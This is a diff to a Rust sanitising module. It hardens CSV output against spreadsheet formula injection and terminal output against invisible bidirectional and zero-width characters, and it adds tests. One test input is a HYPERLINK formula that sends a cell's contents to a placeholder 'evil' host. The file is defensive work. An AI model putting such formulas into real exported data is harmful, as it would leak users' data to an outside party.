@@ -15,17 +15,26 @@ use std::borrow::Cow;
 use std::io::Write;
 use std::path::Path;
 
-/// One CSV field (RFC 4180), neutralised for spreadsheets: a value that
-/// begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
-/// leading `'`, as OWASP's "CSV Injection" page recommends, so Excel and
-/// LibreOffice show it as text instead of evaluating a formula (DDE,
-/// `HYPERLINK` exfiltration). Then the field is quoted when it holds a
-/// comma, a quote or a line break. Consumers that need the exact value
-/// drop one leading `'` from a field whose second character is one of
-/// those six.
+/// The characters that make a spreadsheet read a cell as a formula
+/// (OWASP "CSV Injection"): `=`, `+`, `-`, `@`, a tab, a carriage return.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// One CSV field (RFC 4180), neutralised for spreadsheets. A value that
+/// begins with a formula character (`=`, `+`, `-`, `@`, a tab or a carriage
+/// return), also after leading spaces (LibreOffice can trim them), or that
+/// begins with `'`, gets one leading `'`, as OWASP's "CSV Injection" page
+/// recommends, so Excel and LibreOffice show it as text instead of
+/// evaluating it. Then the field is quoted when it holds a comma, a
+/// semicolon or a tab (the separators spreadsheets use in other locales
+/// and imports), a quote or a line break, so no part of it becomes a cell
+/// of its own. Consumers that need the exact value drop the first `'` from
+/// a field that begins with `'`.
 pub fn csv_cell(value: &str) -> Cow<'_, str> {
-    let risky = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
-    let quote = value.contains([',', '"', '\n', '\r']);
+    let risky = value
+        .trim_start_matches([' ', '\u{a0}'])
+        .starts_with(FORMULA_START)
+        || value.starts_with('\'');
+    let quote = value.contains([',', ';', '\t', '"', '\n', '\r']);
     if !risky && !quote {
         return Cow::Borrowed(value);
     }
@@ -57,13 +66,26 @@ pub fn csv_line<'a>(fields: impl IntoIterator<Item = &'a str>) -> String {
         .join(",")
 }
 
+/// Invisible formatting characters that reorder or hide text on a
+/// terminal: bidirectional embeddings, overrides and isolates (Unicode
+/// TR #9), marks, zero-width characters and the BOM. A banner holding
+/// U+202E can make "Boa/0.94" read backwards or a result read as another.
+fn is_invisible_format(c: char) -> bool {
+    matches!(c,
+        '\u{061c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
+        | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{206f}' | '\u{feff}')
+}
+
 /// Text for a terminal: every control character (C0 including tab and line
-/// breaks, DEL, and C1 U+0080-U+009F, whose U+009B is a one-character CSI)
-/// is shown as an escape (`\x1b`, `\u{9b}`), as are backslashes, so what a
-/// device sent can be read but never acts on the terminal. For one-line
-/// table cells and text reports; JSON keeps exact values.
+/// breaks, DEL, and C1 U+0080-U+009F, whose U+009B is a one-character CSI),
+/// every invisible formatting character (bidirectional overrides and
+/// isolates, zero-width characters) and every backslash is shown as an
+/// escape (`\x1b`, `\u{202e}`), so what a device sent can be read but
+/// never acts on the terminal. For one-line table cells and text reports;
+/// JSON keeps exact values.
 pub fn terminal(text: &str) -> Cow<'_, str> {
-    if !text.chars().any(|c| c.is_control() || c == '\\') {
+    let escaped = |c: char| c.is_control() || c == '\\' || is_invisible_format(c);
+    if !text.chars().any(escaped) {
         return Cow::Borrowed(text);
     }
     let mut out = String::with_capacity(text.len() + 8);
@@ -73,7 +95,7 @@ pub fn terminal(text: &str) -> Cow<'_, str> {
             c if (c as u32) < 0x80 && c.is_control() => {
                 out.push_str(&format!("\\x{:02x}", c as u32))
             }
-            c if c.is_control() => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
+            c if escaped(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
             c => out.push(c),
         }
     }
@@ -174,7 +196,7 @@ mod tests {
         assert_eq!(csv_cell("@SUM(1)"), "'@SUM(1)");
         assert_eq!(csv_cell("+1"), "'+1");
         assert_eq!(csv_cell("-1+1"), "'-1+1");
-        assert_eq!(csv_cell("\tx"), "'\tx");
+        assert_eq!(csv_cell("\tx"), "\"'\tx\"");
         assert_eq!(csv_cell("\rx"), "\"'\rx\"");
         assert_eq!(
             csv_cell("=HYPERLINK(\"http://evil/?\"&A2,\"x\")"),
@@ -183,6 +205,12 @@ mod tests {
         assert_eq!(csv_cell("Boa/0.94"), "Boa/0.94");
         assert_eq!(csv_cell("a,b"), "\"a,b\"");
         assert_eq!(csv_line(["1", "=x", "y"]), "1,'=x,y");
+        // A separator of another locale, a leading space, a quote first.
+        assert_eq!(csv_cell("NPort x;=1+1;"), "\"NPort x;=1+1;\"");
+        assert_eq!(csv_cell("NPort x\t=1+1"), "\"NPort x\t=1+1\"");
+        assert_eq!(csv_cell(" =1+1"), "' =1+1");
+        assert_eq!(csv_cell("'=1+1"), "''=1+1");
+        assert_eq!(csv_cell("it's"), "it's");
     }
 
     /// The reading back of a spreadsheet-safe CSV field.
@@ -192,9 +220,10 @@ mod tests {
         } else {
             cell.to_string()
         };
+        // The documented reading: drop the first ' of a field that has one.
         match inner.strip_prefix('\'') {
-            Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r']) => rest.to_string(),
-            _ => inner,
+            Some(rest) => rest.to_string(),
+            None => inner,
         }
     }
 
@@ -203,14 +232,21 @@ mod tests {
         fn no_cell_starts_a_formula_and_every_cell_reads_back(v in any::<String>()) {
             let c = csv_cell(&v);
             let body = c.strip_prefix('"').unwrap_or(&c);
-            prop_assert!(!body.starts_with(['=', '+', '-', '@', '\t', '\r']), "{:?}", c);
+            prop_assert!(!body.trim_start_matches([' ', '\u{a0}']).starts_with(FORMULA_START), "{:?}", c);
+            // No separator of any locale outside quotes.
+            prop_assert!(c.starts_with('"') || !c.contains([',', ';', '\t']), "{:?}", c);
             prop_assert_eq!(unquote(&c), v);
+        }
+
+        #[test]
+        fn formula_lookalike_values_read_back(v in "[' =+@-]{0,3}[a-z0-9;]{0,4}") {
+            prop_assert_eq!(unquote(&csv_cell(&v)), v);
         }
 
         #[test]
         fn terminal_text_holds_no_control_character(v in any::<String>()) {
             let t = terminal(&v);
-            prop_assert!(!t.chars().any(char::is_control), "{:?}", t);
+            prop_assert!(!t.chars().any(|c| c.is_control() || is_invisible_format(c)), "{:?}", t);
         }
     }
 
@@ -222,6 +258,8 @@ mod tests {
         );
         assert_eq!(terminal("Boa/0.94 カメラ"), "Boa/0.94 カメラ");
         assert_eq!(terminal("a\\x1b"), "a\\\\x1b");
+        assert_eq!(terminal("Boa\u{202e}/0.94"), "Boa\\u{202e}/0.94");
+        assert_eq!(terminal("a\u{2066}b\u{200b}"), "a\\u{2066}b\\u{200b}");
     }
 
     #[cfg(unix)]
